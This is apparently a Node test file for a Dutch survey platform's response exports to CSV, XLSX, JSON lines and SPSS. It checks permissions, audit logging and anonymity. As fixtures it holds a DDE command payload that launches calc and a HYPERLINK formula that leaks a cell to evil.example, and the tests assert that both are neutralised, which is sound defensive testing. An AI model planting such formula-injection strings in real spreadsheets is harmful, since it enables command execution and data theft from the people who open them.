import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync, spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { strFromU8, unzipSync } from 'fflate';
import { sql } from 'kysely';
import readXlsxFile from 'read-excel-file/node';
import { AuditAction } from '../../lib/audit.js';
import { Permission } from '../../lib/permissions.js';
import { signedRowToken } from '../../lib/tokens.js';
import { colleague, importCsv, setUp, startTestApp, type TestApp } from '../../../test/harness.js';

/**
 * OBLIGATIONS SVC-4, ACC-2, SEC-3: the responses exports (CSV for Dutch Excel, XLSX, JSON lines, SPSS
 * .sav), each read back the way its user reads it, and attacked: contacts by a role without the right,
 * a confidential survey, an anonymous one, a formula smuggled in an answer or an option label.
 */

const form = { 'content-type': 'application/x-www-form-urlencoded' };
const L = (nl: string, en: string) => ({ nl, en });
const FORMATS = ['csv', 'xlsx', 'jsonl', 'sav'] as const;
const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"klik")';
const LONG = `${'Héél lang verhaal over de wachttijd. '.repeat(16)}Einde.`;

const definition = {
  questions: [
    { id: 'score', type: 'csat', required: true, text: L('Hoe tevreden ben je?', 'How satisfied are you?') },
    { id: 'why', type: 'text', required: false, text: L('Waarom?', 'Why?') },
    {
      id: 'city',
      type: 'single',
      required: false,
      text: L('Welke vestiging?', 'Which branch?'),
      options: [
        { value: 'zwolle', label: L('Zwolle', 'Zwolle') },
        { value: 'evil', label: L(HYPERLINK, HYPERLINK) },
      ],
    },
    {
      id: 'channels',
      type: 'multiple',
      required: false,
      text: L('Hoe had je contact?', 'How did you contact us?'),
      options: [
        { value: 'telefoon', label: L('Telefoon', 'Phone') },
        { value: 'mail', label: L('E-mail', 'Email') },
        { value: 'balie', label: L('Balie', 'Desk') },
      ],
    },
    { id: 'hours', type: 'number', required: false, text: L('Uren per week?', 'Hours per week?') },
    { id: 'visited', type: 'date', required: false, text: L('Wanneer was je er?', 'When were you there?') },
    {
      id: 'rating',
      type: 'rating',
      required: false,
      min: 1,
      max: 5,
      minLabel: L('Slecht', 'Bad'),
      maxLabel: L('Goed', 'Good'),
      text: L('Cijfer', 'Grade'),
    },
  ],
  invitation: { subject: L('Je mening', 'Your opinion'), body: L('Beste {naam}', 'Dear {name}') },
  thanks: L('Bedankt!', 'Thank you!'),
};

/** The three respondents of the identified survey, in the order they answer. */
const ANSWERS: Array<Record<string, string | string[]>> = [
  {
    score: '4',
    why: "=cmd|' /C calc'!A0",
    city: 'evil',
    channels: ['telefoon', 'balie'],
    hours: '7,5',
    visited: '2026-02-28',
    rating: '5',
  },
  { score: '2', why: LONG, city: 'zwolle', channels: ['mail'], hours: '-3' },
  { score: '5', why: 'Prima, echt; "top"', hours: '40.25', rating: '1' },
];

const enc = (o: Record<string, string | string[]>) => {
  const p = new URLSearchParams();
  for (const [k, v] of Object.entries(o)) for (const x of Array.isArray(v) ? v : [v]) p.append(k, x);
  return p.toString();
};

/** Dutch Excel's reading of a CSV: `;` between cells, quotes around cells, a BOM in front. */
function excelNl(body: string, delimiter = ';'): string[][] {
  assert.ok(body.startsWith('\uFEFF'), 'UTF-8 byte order mark');
  assert.ok(body.includes('\r\n') && !/[^\r]\n(?=[^\n]*$)/.test(body.slice(-2)), 'CRLF line ends');
  return parse(body.slice(1), { delimiter, relax_quotes: false, record_delimiter: '\r\n' }) as string[][];
}
/** A cell as Dutch Excel takes a number: decimal comma. */
const nlNumber = (s: string) => (/^-?\d+(,\d+)?$/.test(s) ? Number(s.replace(',', '.')) : NaN);

const havePspp = spawnSync('pspp', ['--version']).status === 0;

describe('SVC-4 responses exports: CSV for Dutch Excel, XLSX, JSON lines, SPSS', () => {
  let t: TestApp;
  let owner: string;
  let tenantId: string;
  let analyst: string;
  let surveyId: string;
  let dir: string;

  before(async () => {
    t = await startTestApp();
    ({ ownerCookie: owner, tenantId } = await setUp(t));
    dir = mkdtempSync(join(tmpdir(), 'peil-export-test-'));
    const rows = Array.from({ length: 12 }, (_, i) => `klant${i + 1}@example.nl;K${i + 1};${i % 2 ? 'en' : 'nl'}`);
    assert.equal((await importCsv(t, owner, `email;voornaam;taal\n${rows.join('\n')}\n`)).statusCode, 200);
    analyst = await colleague(t, owner, 'analyst');
    surveyId = await create({ name: 'Exports', kind: 'custom', definition });
    const links = await invite(surveyId);
    for (const [i, a] of ANSWERS.entries()) {
      const r = await t.app.inject({
        method: 'POST',
        url: links[i]!,
        headers: form,
        payload: enc({ ...a, lang: 'nl' }),
      });
      assert.equal(r.statusCode, 303, r.body);
    }
  });
  after(async () => {
    await t.close();
    rmSync(dir, { recursive: true, force: true });
  });

  async function create(payload: Record<string, unknown>): Promise<string> {
    const r = await t.app.inject({ method: 'POST', url: '/api/v1/surveys', headers: { cookie: owner }, payload });
    assert.equal(r.statusCode, 201, r.body);
    return r.json().id;
  }

  async function invite(id: string): Promise<string[]> {
    const d = await t.app.inject({
      method: 'POST',
      url: `/api/v1/surveys/${id}/distributions`,
      headers: { cookie: owner },
      payload: { all: true },
    });
    assert.equal(d.statusCode, 202, d.body);
    const keys = await t.ctx.keyring.forTenant(tenantId);
    const rows = await t.ctx.db.tenant(tenantId, (tx) =>
      tx.selectFrom('invitations').select('id').where('survey_id', '=', id).orderBy('id').execute(),
    );
    return rows.map((r) => `/s/${signedRowToken(tenantId, r.id, (b) => keys.tokenMac(b))}`);
  }

  const get = (id: string, format: string, query = '', cookie = owner) =>
    t.app.inject({ method: 'GET', url: `/api/v1/surveys/${id}/responses.${format}${query}`, headers: { cookie } });

  /** The responses in answer order, with PostgreSQL's own Dutch local time of each. */
  async function stored() {
    return t.ctx.db.tenant(tenantId, (tx) =>
      tx
        .selectFrom('responses')
        .select([
          'id',
          'language',
          sql<string>`to_char(submitted_at AT TIME ZONE 'Europe/Amsterdam', 'YYYY-MM-DD HH24:MI:SS')`.as('local'),
        ])
        .where('survey_id', '=', surveyId)
        .orderBy('submitted_at')
        .orderBy('id')
        .execute(),
    );
  }

  test('SVC-4 CSV as Dutch Excel splits it: `;`, decimal comma, local time, labels, CSAT groups named as CSAT, negative numbers stay numbers, formulas neutralised', async () => {
    const res = await get(surveyId, 'csv');
    assert.equal(res.statusCode, 200, res.body);
    assert.match(res.headers['content-type'] as string, /^text\/csv; charset=utf-8/);
    assert.match(res.headers['content-disposition'] as string, /^attachment; filename="peil-Exports-responses\.csv"/);
    assert.equal(res.headers['cache-control'], 'no-store');
    const rows = excelNl(res.body);
    assert.deepEqual(rows[0], [
      'response_id',
      'submitted_at_amsterdam',
      'language',
      'score',
      'score_category',
      'why',
      'city',
      'channels_telefoon',
      'channels_mail',
      'channels_balie',
      'hours',
      'visited',
      'rating',
    ]);
    assert.equal(rows.length, 4);
    const db = await stored();
    const col = (name: string) => rows[0]!.indexOf(name);
    const [a, b, c] = rows.slice(1);
    assert.deepEqual(
      rows.slice(1).map((r) => r[0]),
      db.map((r) => r.id),
    );
    // Time: Dutch local time as PostgreSQL computes it, not UTC.
    assert.deepEqual(
      rows.slice(1).map((r) => r[col('submitted_at_amsterdam')]),
      db.map((r) => r.local),
    );
    assert.equal(a![col('language')], 'nl');
    // The key score as itself: a CSAT 4 is "Tevreden", never a detractor.
    assert.deepEqual(
      [a, b, c].map((r) => [nlNumber(r![col('score')]!), r![col('score_category')]]),
      [
        [4, 'Tevreden'],
        [2, 'Ontevreden'],
        [5, 'Tevreden'],
      ],
    );
    assert.ok(!res.body.includes('detractor') && !res.body.includes('Criticus'));
    // Numbers: decimal comma; a negative number stays a number (no apostrophe).
    assert.equal(a![col('hours')], '7,5');
    assert.equal(nlNumber(a![col('hours')]!), 7.5);
    assert.equal(b![col('hours')], '-3');
    assert.equal(nlNumber(b![col('hours')]!), -3);
    assert.equal(nlNumber(c![col('hours')]!), 40.25);
    // Choices by label; multiple choice one 0/1 column per option; not answered: empty.
    assert.equal(b![col('city')], 'Zwolle');
    assert.deepEqual(
      [col('channels_telefoon'), col('channels_mail'), col('channels_balie')].map((i) => a![i]),
      ['1', '0', '1'],
    );
    assert.deepEqual(
      [col('channels_telefoon'), col('channels_mail'), col('channels_balie')].map((i) => c![i]),
      ['', '', ''],
    );
    assert.equal(a![col('visited')], '2026-02-28');
    // SEC-3: the typed formula and the option label that is a formula are text, not formulas.
    assert.equal(a![col('why')], "'=cmd|' /C calc'!A0");
    assert.equal(a![col('city')], `'${HYPERLINK}`);
    for (const r of rows.slice(1))
      for (const cell of r)
        assert.ok(!/^[=+@\t\r]/.test(cell) && !/^-(?!\d+(,\d+)?$)/.test(cell), `no cell starts a formula: ${cell}`);
    assert.equal(c![col('why')], 'Prima, echt; "top"');
    assert.equal(b![col('why')], LONG);
  });

  test('SVC-4 CSV options: English labels, stored codes, the question texts as a second header row, labels joined, comma with a decimal point', async () => {
    const en = excelNl((await get(surveyId, 'csv', '?lang=en&header=texts&multiple=joined')).body);
    assert.deepEqual(en[1]!.slice(0, 7), [
      'Response id',
      'Submitted at (Dutch time, Europe/Amsterdam)',
      'Language',
      'How satisfied are you?',
      'Customer satisfaction (CSAT): group',
      'Why?',
      'Which branch?',
    ]);
    assert.ok(en[0]!.includes('channels') && !en[0]!.includes('channels_mail'));
    const first = en[2]!;
    assert.equal(first[en[0]!.indexOf('score_category')], 'Satisfied');
    assert.equal(first[en[0]!.indexOf('channels')], 'Phone | Desk');
    const codes = excelNl((await get(surveyId, 'csv', '?codes=true&multiple=joined')).body);
    assert.equal(codes[2]![codes[0]!.indexOf('score_category')], 'dissatisfied');
    assert.equal(codes[2]![codes[0]!.indexOf('city')], 'zwolle');
    assert.equal(codes[1]![codes[0]!.indexOf('channels')], 'telefoon | balie');
    const comma = excelNl((await get(surveyId, 'csv', '?delimiter=comma')).body, ',');
    assert.equal(comma[1]![comma[0]!.indexOf('hours')], '7.5');
    assert.equal(comma[2]![comma[0]!.indexOf('hours')], '-3');
  });

  test('SVC-4 XLSX: typed cells read back by a reader library; a sheet of questions; a formula is a text cell', async () => {
    const res = await get(surveyId, 'xlsx', '?header=texts');
    assert.equal(res.statusCode, 200, res.body);
    assert.equal(res.headers['content-type'], 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    assert.equal(res.headers['cache-control'], 'no-store');
    const sheets = await readXlsxFile(res.rawPayload);
    assert.deepEqual(
      sheets.map((s) => s.sheet),
      ['Antwoorden (Responses)', 'Vragen (Questions)'],
    );
    const data = sheets[0]!.data;
    const head = data[0] as string[];
    assert.equal(data[1]![3], 'Hoe tevreden ben je?', 'second header row: texts');
    const col = (n: string) => head.indexOf(n);
    const [a, b] = [data[2]!, data[3]!];
    assert.equal(a[col('score')], 4);
    assert.equal(a[col('score_category')], 'Tevreden');
    assert.equal(a[col('hours')], 7.5);
    assert.equal(b[col('hours')], -3);
    assert.equal(a[col('channels_balie')], 1);
    assert.ok(a[col('visited')] instanceof Date);
    assert.equal((a[col('visited')] as unknown as Date).toISOString().slice(0, 10), '2026-02-28');
    const db = await stored();
    const at = a[col('submitted_at_amsterdam')] as unknown as Date;
    assert.ok(at instanceof Date, 'the time is a date cell');
    // A serial day number holds the second up to floating-point rounding, as Excel shows it.
    assert.equal(
      new Date(Math.round(at.getTime() / 1000) * 1000).toISOString().slice(0, 19).replace('T', ' '),
      db[0]!.local,
      'local time (Excel has no zones)',
    );
    assert.equal(a[col('why')], "=cmd|' /C calc'!A0");
    assert.equal(a[col('city')], HYPERLINK);
    // Typed text cells: inline strings, no formula element anywhere.
    const files = unzipSync(new Uint8Array(res.rawPayload));
    const xml = strFromU8(files['xl/worksheets/sheet1.xml']!);
    assert.ok(!/<f[ >]/.test(xml), 'no formula cells');
    assert.match(xml, /t="inlineStr"[^>]*><is><t xml:space="preserve">=HYPERLINK/);
    const questions = sheets[1]!.data;
    assert.deepEqual(questions[0], ['question_id', 'type', 'text_nl', 'text_en', 'value', 'label_nl', 'label_en']);
    assert.ok(questions.some((r) => r[0] === 'city' && r[4] === 'zwolle' && r[5] === 'Zwolle'));
    assert.ok(questions.some((r) => r[0] === 'score_category' && r[5] === 'Tevreden' && r[6] === 'Satisfied'));
  });

  test('SVC-4 JSON lines: one object per response, answers as stored with their labels', async () => {
    const res = await get(surveyId, 'jsonl', '?lang=en');
    assert.equal(res.statusCode, 200, res.body);
    assert.equal(res.headers['content-type'], 'application/x-ndjson');
    const lines = res.body
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l));
    assert.equal(lines.length, 3);
    const db = await stored();
    assert.deepEqual(
      lines.map((l) => l.response_id),
      db.map((r) => r.id),
    );
    assert.deepEqual(lines[0].answers, {
      score: 4,
      why: "=cmd|' /C calc'!A0",
      city: 'evil',
      channels: ['telefoon', 'balie'],
      hours: 7.5,
      visited: '2026-02-28',
      rating: 5,
    });
    assert.deepEqual(lines[0].labels, { city: HYPERLINK, channels: ['Phone', 'Desk'] });
    assert.deepEqual(lines[0].categories, { score: 'satisfied' });
    assert.deepEqual(lines[1].categories, { score: 'dissatisfied' });
    assert.equal(lines[1].answers.hours, -3);
    assert.ok(typeof lines[0].submitted_at === 'string' && lines[0].language === 'nl');
    assert.equal(lines[0].contact, undefined);
  });

  test(
    'SVC-4 SPSS .sav: PSPP reads it, with variable labels, value labels and the data',
    { skip: havePspp ? false : 'pspp is not installed (Debian package "pspp")' },
    async () => {
      const res = await get(surveyId, 'sav', '?contacts=true');
      assert.equal(res.statusCode, 200, res.body);
      assert.equal(res.headers['content-type'], 'application/x-spss-sav');
      const file = join(dir, 'x.sav');
      writeFileSync(file, res.rawPayload);
      writeFileSync(join(dir, 'x.sps'), `GET FILE='${file}'.\nDISPLAY DICTIONARY.\nLIST.\n`);
      const out = execFileSync('pspp', ['-O', 'box=ascii', '-O', 'width=400', join(dir, 'x.sps')], {
        encoding: 'utf8',
      });
      assert.ok(!/error|warning/i.test(out), out.slice(0, 3000));
      // Variable labels: the question texts.
      assert.match(out, /score\s*\|\s*\d+\s*\|Hoe tevreden ben je\?/);
      assert.match(out, /hours\s*\|\s*\d+\s*\|Uren per week\?/);
      assert.match(out, /channels_balie\s*\|\s*\d+\s*\|Hoe had je contact\?: Balie/);
      // Value labels: choices, scale ends, the CSAT groups, chosen / not chosen.
      for (const label of ['Zwolle', 'Slecht', 'Goed', 'Tevreden', 'Ontevreden', 'Gekozen', 'Niet gekozen'])
        assert.ok(out.includes(label), `value label ${label}\n${out.slice(0, 4000)}`);
      assert.ok(out.includes('DATE11') && out.includes('DATETIME20'), 'dates as SPSS dates');
      // The data, through pspp-convert (CSV, value labels where there are).
      const csvFile = join(dir, 'x.csv');
      execFileSync('pspp-convert', [file, csvFile]);
      const rows = parse(readFileSync(csvFile, 'utf8'), { relax_column_count: true }) as string[][];
      const head = rows[0]!;
      const col = (n: string) => head.indexOf(n);
      assert.equal(rows.length, 4);
      const db = await stored();
      assert.deepEqual(
        rows.slice(1).map((r) => r[col('response_id')]),
        db.map((r) => r.id),
      );
      assert.equal(rows[1]![col('score')], '4');
      assert.equal(rows[1]![col('score_category')], '1', 'CSAT 4: group 1 (satisfied)');
      assert.equal(rows[2]![col('score_category')], '3', 'CSAT 2: group 3 (dissatisfied)');
      assert.equal(Number(rows[1]![col('hours')]), 7.5);
      assert.equal(Number(rows[2]![col('hours')]), -3);
      assert.equal(rows[1]![col('city')], '2');
      assert.equal(rows[1]![col('channels_balie')], '1');
      assert.equal(rows[1]![col('channels_mail')], '0');
      assert.equal(rows[3]![col('channels_mail')]!.trim(), '', 'not answered: missing');
      assert.equal(rows[2]![col('why')], LONG, 'a text longer than 255 bytes, in UTF-8, whole');
      assert.match(rows[1]![col('email')]!, /^klant\d+@example\.nl$/);
    },
  );

  test('ACC-2 ACC-4 an analyst asking for contact details gets 403 in every format, each try logged; without them, no contact column', async () => {
    const denied = () =>
      t.ctx.db.tenant(tenantId, (tx) =>
        tx
          .selectFrom('audit_events')
          .select('details')
          .where('action', '=', AuditAction.ACCESS_DENIED)
          .execute()
          .then(
            (rows) =>
              rows.filter((r) => JSON.stringify(r.details).includes(Permission.RESPONSES_EXPORT_CONTACTS)).length,
          ),
      );
    const deniedBefore = await denied();
    for (const f of FORMATS) {
      const res = await get(surveyId, f, '?contacts=true', analyst);
      assert.equal(res.statusCode, 403, `${f}: ${res.body}`);
      assert.ok(!res.body.includes('@example.nl'));
      const ok = await get(surveyId, f, '', analyst);
      assert.equal(ok.statusCode, 200, `${f}: ${ok.body}`);
      assert.ok(!ok.rawPayload.toString('latin1').includes('klant1@example.nl'), `${f} without contacts`);
    }
    assert.equal((await denied()) - deniedBefore, FORMATS.length, 'ACC-4: each refused export is in the log');
    const audits = await t.ctx.db.tenant(tenantId, (tx) =>
      tx.selectFrom('audit_events').select('details').where('action', '=', AuditAction.RESPONSES_EXPORTED).execute(),
    );
    const formats = audits.map((a) => (a.details as { format: string }).format);
    for (const f of FORMATS) assert.ok(formats.includes(f), `audit row with format ${f}`);
  });

  test('SVC-4 a confidential survey has no export in any format', async () => {
    const id = await create({ name: 'Vertrouwelijk', kind: 'enps', anonymity: 'confidential', minGroupSize: 3 });
    const links = await invite(id);
    for (const l of links.slice(0, 6))
      assert.equal(
        (
          await t.app.inject({
            method: 'POST',
            url: l,
            headers: form,
            payload: enc({ score: '8', why: 'Goed', lang: 'nl' }),
          })
        ).statusCode,
        303,
      );
    for (const f of FORMATS) {
      assert.equal((await get(id, f)).statusCode, 403, f);
      assert.equal((await get(id, f, '?contacts=true')).statusCode, 403, f);
    }
  });

  test('SVC-4 an anonymous survey: every format holds only the release, without time or language, in random id order, redacted', async () => {
    const id = await create({ name: 'Anoniem', kind: 'enps', anonymity: 'anonymous', minGroupSize: 5 });
    const links = await invite(id);
    for (const [i, l] of links.slice(0, 7).entries()) {
      assert.equal(
        (
          await t.app.inject({
            method: 'POST',
            url: l,
            headers: form,
            payload: enc({ score: String(i + 3), why: `Bel me op 06-1234567${i}`, lang: i % 2 ? 'en' : 'nl' }),
          })
        ).statusCode,
        303,
      );
    }
    const ids = (
      await t.ctx.db.tenant(tenantId, (tx) =>
        tx
          .selectFrom('responses')
          .select('id')
          .where('survey_id', '=', id)
          .orderBy('submitted_at')
          .orderBy('id')
          .limit(5)
          .execute(),
      )
    )
      .map((r) => r.id)
      .sort();
    for (const f of FORMATS) assert.equal((await get(id, f, '?contacts=true')).statusCode, 403, f);

    const csv = excelNl((await get(id, 'csv')).body);
    assert.deepEqual(csv[0], ['response_id', 'score', 'score_category', 'why']);
    assert.deepEqual(
      csv.slice(1).map((r) => r[0]),
      ids,
      'the release (5 of 7), by id',
    );
    assert.ok(
      csv.slice(1).every((r) => !r[3]!.includes('06-1234567')),
      'redacted',
    );
    assert.ok(
      csv.slice(1).some((r) => r[2] === 'Criticus'),
      'eNPS groups',
    );

    const xlsx = (await readXlsxFile((await get(id, 'xlsx')).rawPayload))[0]!.data;
    assert.deepEqual(xlsx[0], ['response_id', 'score', 'score_category', 'why']);
    assert.deepEqual(
      xlsx.slice(1).map((r) => r[0]),
      ids,
    );

    const jsonl = (await get(id, 'jsonl')).body
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l));
    assert.deepEqual(
      jsonl.map((l) => l.response_id),
      ids,
    );
    for (const l of jsonl) {
      assert.deepEqual(Object.keys(l).sort(), ['answers', 'categories', 'labels', 'response_id']);
      assert.ok(!l.answers.why.includes('06-1234567'));
    }

    if (havePspp) {
      const file = join(dir, 'anon.sav');
      writeFileSync(file, (await get(id, 'sav')).rawPayload);
      execFileSync('pspp-convert', [file, join(dir, 'anon.csv')]);
      const rows = parse(readFileSync(join(dir, 'anon.csv'), 'utf8')) as string[][];
      assert.deepEqual(rows[0], ['response_id', 'score', 'score_category', 'why']);
      assert.deepEqual(
        rows.slice(1).map((r) => r[0]),
        ids,
      );
    }
  });
});
